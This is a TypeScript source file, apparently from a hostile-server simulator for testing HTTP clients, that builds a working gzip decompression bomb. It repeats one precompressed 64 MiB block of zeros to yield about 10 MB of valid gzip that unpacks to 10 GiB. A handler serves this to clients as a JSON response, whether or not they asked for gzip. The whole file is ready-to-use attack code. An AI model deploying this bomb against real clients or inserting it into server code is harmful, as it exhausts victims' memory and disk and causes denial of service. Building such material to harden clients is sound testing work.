import { promisify } from 'node:util';
import { constants, deflateRaw } from 'node:zlib';
import { crcOfZeros } from './crc';
import { headBlock } from './reply';
import type { Act } from './victim';

const BLOCK_BYTES = 64 * 1024 * 1024;
/** 10 GiB. */
const BLOCKS = 160;

/** RFC 1952: magic, deflate, no flags, no time, no extra flags, unknown system. */
const GZIP_HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
/** RFC 1951: a last block with nothing but its end in it. */
const LAST_BLOCK = Buffer.from([0x03, 0x00]);

/** Packed zeros that end on a byte and need nothing before them, so that they can be said again and again. */
let packing: Promise<Buffer> | undefined;
const packedBlock = (): Promise<Buffer> =>
  (packing ??= promisify(deflateRaw)(Buffer.alloc(BLOCK_BYTES), {
    level: 9,
    finishFlush: constants.Z_FULL_FLUSH,
  }));

/**
 * Pieces of one well-formed gzip member (RFC 1952) of `blocks` times 64 MiB of zeros, some 65 kB each. One block is
 * packed once and repeated, so a bomb costs its server next to nothing.
 */
export async function bomb(blocks: number): Promise<Buffer[]> {
  const block = await packedBlock();
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crcOfZeros(blocks * BLOCK_BYTES), 0);
  trailer.writeUInt32LE((blocks * BLOCK_BYTES) % 2 ** 32, 4);
  return [GZIP_HEADER, ...Array.from({ length: blocks }, () => block), Buffer.concat([LAST_BLOCK, trailer])];
}

/** 200 with 10 MB of gzip that unpack to 10 GiB, whether the client asked for gzip or not; the API does nothing. */
export const gzipBomb: Act = async ({ line, method, headers, told }) => {
  const pieces = await bomb(BLOCKS);
  told(200);
  const own: [string, string][] = [
    ['Content-Type', 'application/json'],
    ['Content-Encoding', 'gzip'],
  ];
  const length = pieces.reduce((sum, piece) => sum + piece.length, 0);
  await line.send(headBlock({ status: 200, headers: [...headers, ...own] }, { length }, 'closes'));
  if (method !== 'HEAD') for (const piece of pieces) await line.send(piece);
  line.end();
};
